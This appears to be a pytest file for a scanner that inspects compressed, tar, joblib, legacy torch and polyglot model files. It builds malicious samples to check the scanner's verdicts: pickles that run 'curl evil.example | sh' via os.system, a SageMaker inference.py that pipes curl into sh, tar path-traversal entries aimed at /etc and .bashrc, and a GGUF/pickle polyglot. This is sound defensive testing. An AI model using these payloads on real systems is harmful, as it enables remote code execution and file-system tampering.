"""Compressed files, tar archives, torch's legacy tar checkpoints, joblib's ZF files and
files that are two formats at once — all built here, nothing unpickled.

The harmful samples follow public write-ups: pickles hidden in compressed streams that
joblib.load opens by magic (JFrog's and Trail of Bits' notes on joblib), SageMaker's
``model.tar.gz`` with an ``inference.py`` beside the weights, tar path traversal
(CVE-2007-4559) and the GGUF/pickle polyglot (the GGUF magic begins with BINFLOAT).
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import pickle
import pickletools
import random
import struct
import sys
import tarfile
import zlib

import pytest

from amphub.scan.dispatch import scan_blob
from amphub.scan.findings import FileVerdict, Limits
from tests import test_scan_pickles
from tests.test_scan_pickles import Call, torch_zip

torch_pickle = test_scan_pickles.torch_pickle  # the fixture

EVIL = pickle.dumps(Call(os.system, "curl evil.example | sh"), protocol=4)
EVIL_P0 = b"cos\nsystem\n(S'id'\ntR."
CLEAN = pickle.dumps({"coef": [0.5, 1.5], "classes": ["a", "b"]}, protocol=4)
INFERENCE_PY = b"import os\n\ndef model_fn(model_dir):\n    os.system('curl x | sh')\n"
CLEAN_PY = b"import json\n\ndef model_fn(model_dir):\n    return json.load(open(model_dir))\n"


def scan(data: bytes, path: str, limits: Limits | None = None) -> FileVerdict:
    kwargs = {"limits": limits} if limits else {}
    return scan_blob(path, lambda: io.BytesIO(data), len(data), **kwargs)


def messages(verdict: FileVerdict) -> str:
    return "\n".join(f.message for f in verdict.findings)


def lzma_alone(data: bytes) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_ALONE)


def tar_of(members: dict[str, bytes], mode: str = "w", links: dict[str, str] | None = None):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            archive.addfile(info)
    return out.getvalue()


# --- compression by magic ---------------------------------------------------------

CODECS = {"gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress, "lzma": lzma_alone}


@pytest.mark.parametrize("codec", CODECS)
@pytest.mark.parametrize("name", ["weights.dat", "model", "model.pkl.gz", "scaler.joblib"])
@pytest.mark.parametrize("payload", [EVIL, EVIL_P0], ids=["proto4", "proto0"])
def test_a_compressed_pickle_is_read_whatever_its_name(codec, name, payload):
    verdict = scan(CODECS[codec](payload), name)
    assert verdict.status == "unsafe", verdict
    assert "os.system" in messages(verdict) or "posix.system" in messages(verdict)


@pytest.mark.parametrize("codec", CODECS)
def test_compressed_benign_files_are_not_flagged(codec):
    assert scan(CODECS[codec](CLEAN), "model.pkl.gz").status == "safe"
    csv = b"sepal_length,sepal_width\n" + b"5.1,3.5\n" * 2000
    assert scan(CODECS[codec](csv), "iris.csv.gz").status == "safe"
    noise = random.Random(1).randbytes(300_000)
    verdict = scan(CODECS[codec](noise), "tensors.raw.gz")
    assert verdict.status == "skipped", verdict


def test_compressed_in_compressed_is_read_and_nesting_is_bounded():
    assert scan(gzip.compress(bz2.compress(EVIL)), "blob").status == "unsafe"
    deep = EVIL
    for _ in range(6):
        deep = gzip.compress(deep)
    verdict = scan(deep, "blob")
    assert verdict.status in ("error", "unsafe") and "nesting limit" in messages(verdict)


def test_a_compression_bomb_stops_at_the_limit():
    bomb = gzip.compress(b"\x80\x04" + b"N0" * 5_000_000)
    verdict = scan(bomb, "model.pkl", Limits(max_unpacked_bytes=1_000_000))
    assert verdict.status == "error" and "decompression limit" in messages(verdict)


def test_joblib_zf_files_are_read():
    def zfile(data: bytes) -> bytes:
        return b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data, 1)

    assert scan(zfile(EVIL), "model.pkl_01.npy.z").status == "unsafe"
    assert scan(zfile(EVIL), "anything").status == "unsafe"
    assert scan(zfile(CLEAN), "model.pkl_01.npy.z").status == "safe"


# --- tar archives -----------------------------------------------------------------


@pytest.mark.parametrize("mode", ["w", "w:gz", "w:bz2", "w:xz"])
def test_sagemaker_model_tar_is_read(mode, torch_pickle):
    harmful = {"model.pth": torch_zip(torch_pickle({"x": Call(os.system, "id")}))}
    assert scan(tar_of(harmful, mode), "model.tar.gz").status == "unsafe"
    code = {"model.pth": torch_zip(torch_pickle()), "code/inference.py": INFERENCE_PY}
    verdict = scan(tar_of(code, mode), "model.tar.gz")
    assert verdict.status == "unsafe" and "code/inference.py" in str(verdict.findings), verdict
    raw = {"model.joblib": EVIL, "config.json": b'{"a": 1}'}
    assert scan(tar_of(raw, mode), "artifacts").status == "unsafe"


@pytest.mark.parametrize("mode", ["w", "w:gz", "w:xz"])
def test_a_clean_model_tar_is_safe(mode, torch_pickle):
    members = {
        "model.pth": torch_zip(torch_pickle()),
        "code/inference.py": CLEAN_PY,
        "code/requirements.txt": b"torch==2.3.0\n",
        "config.json": b'{"hidden_size": 768, "architectures": ["BertModel"]}',
        "variables/variables.data-00000-of-00001": random.Random(2).randbytes(100_000),
    }
    verdict = scan(tar_of(members, mode), "model.tar.gz")
    assert verdict.status == "safe", verdict


def test_tar_in_tar_is_read():
    inner = tar_of({"model.pkl": EVIL})
    assert scan(tar_of({"inner.tar": inner}, "w:gz"), "model.tar.gz").status == "unsafe"
    assert scan(tar_of({"inner.tar.gz": gzip.compress(inner)}), "outer.tar").status == "unsafe"


@pytest.mark.parametrize("mode", ["w", "w:gz"])
def test_tar_limits_make_an_error(mode):
    many = tar_of({f"f{i}.txt": b"x" for i in range(20)}, mode)
    verdict = scan(many, "model.tar.gz", Limits(max_zip_entries=10))
    assert verdict.status == "error" and "entry limit" in messages(verdict)


@pytest.mark.parametrize("mode", ["w:gz", "w:bz2", "w:xz"])
def test_a_compressed_tar_stops_at_the_inflated_size_limit(mode):
    big = tar_of({"b.dat": bytes(3_000_000), "a.pkl": EVIL}, mode)
    verdict = scan(big, "model.tar.gz", Limits(max_unpacked_bytes=1_000_000))
    assert verdict.status == "error" and "decompression limit" in messages(verdict)


@pytest.mark.parametrize(
    ("members", "links"),
    [
        ({"../../etc/cron.d/job": b"* * * * * root id\n"}, None),
        ({"/etc/profile.d/x.sh": b"id\n"}, None),
        ({"model.bin": b"x"}, {"weights": "../../../home/user/.bashrc"}),
        ({"model.bin": b"x"}, {"a/b": "/etc/passwd"}),
    ],
)
def test_tar_members_that_escape_on_extraction_are_unsafe(members, links):
    verdict = scan(tar_of(members, "w:gz", links), "model.tar.gz")
    assert verdict.status == "unsafe", verdict
    assert "outside" in messages(verdict) or "leaves" in messages(verdict)


def test_an_inner_link_is_fine():
    data = tar_of({"model/v1/w.dat": b"x"}, "w:gz", {"model/latest": "v1"})
    assert scan(data, "model.tar.gz").status == "safe"


def test_broken_tar_is_an_error():
    data = tar_of({"model.pkl": CLEAN})
    assert scan(data[:700], "model.tar").status == "error"


# --- torch's legacy tar checkpoints -----------------------------------------------


@pytest.fixture
def legacy_torch(torch_pickle, monkeypatch):
    torch = sys.modules["torch"]
    tensor_cls = type("FloatTensor", (), {"__module__": "torch", "__qualname__": "FloatTensor"})
    monkeypatch.setattr(torch, "FloatTensor", tensor_cls, raising=False)

    def build(model: bytes, storage_type: object = torch.FloatStorage) -> bytes:
        storages = pickle.dumps(2, protocol=2)
        for key, values in (("0", [1.0, 2.0, 3.0, 4.0]), ("1", [5.0, 6.0])):
            storages += pickle.dumps((key, "cpu", storage_type), protocol=2)
            storages += struct.pack(f"<q{len(values)}f", len(values), *values)
        storages += pickle.dumps([], protocol=2)  # storage views
        tensors = pickle.dumps(1, protocol=2)
        tensors += pickle.dumps(("t0", "0", tensor_cls), protocol=2)
        tensors += struct.pack("<ii2q2qq", 2, 0, 2, 2, 2, 1, 0)
        sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
        members = {"sys_info": sys_info, "pickle": model, "tensors": tensors}
        return tar_of(members | {"storages": storages})

    return build


def test_legacy_torch_tar_is_read(legacy_torch, torch_pickle):
    verdict = scan(legacy_torch(torch_pickle()), "model.pt")
    assert verdict.status == "safe", verdict
    assert scan(legacy_torch(torch_pickle({"x": Call(os.system, "id")})), "model.pt").status == (
        "unsafe"
    )
    assert scan(legacy_torch(torch_pickle(), os.system), "model.pt").status == "unsafe"


def test_legacy_torch_tar_with_a_bad_record_is_an_error(legacy_torch, torch_pickle):
    data = legacy_torch(torch_pickle()).replace(struct.pack("<q", 4), struct.pack("<q", 1 << 40))
    assert scan(data, "model.pt").status == "error"


# --- two formats at once ----------------------------------------------------------


def test_gguf_that_is_also_a_pickle_is_judged_as_both():
    polyglot = b"GGUF\x03\x00\x00\x00" + b"0" + EVIL_P0  # BINFLOAT eats "GUF" + version
    assert [op.name for op, _, _ in pickletools.genops(polyglot)][-2:] == ["REDUCE", "STOP"]
    verdict = scan(polyglot, "model.gguf")
    assert verdict.status == "unsafe", verdict
    assert "GGUF" in messages(verdict)  # read as GGUF too


def test_text_that_is_also_a_pickle_is_judged_as_both():
    polyglot = EVIL_P0 + b"\nGITHUB_TOKEN=ghp_" + b"A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8" + b"\n"
    verdict = scan(polyglot, "notes.txt")
    assert verdict.status == "unsafe"
    assert "GitHub token" in messages(verdict)
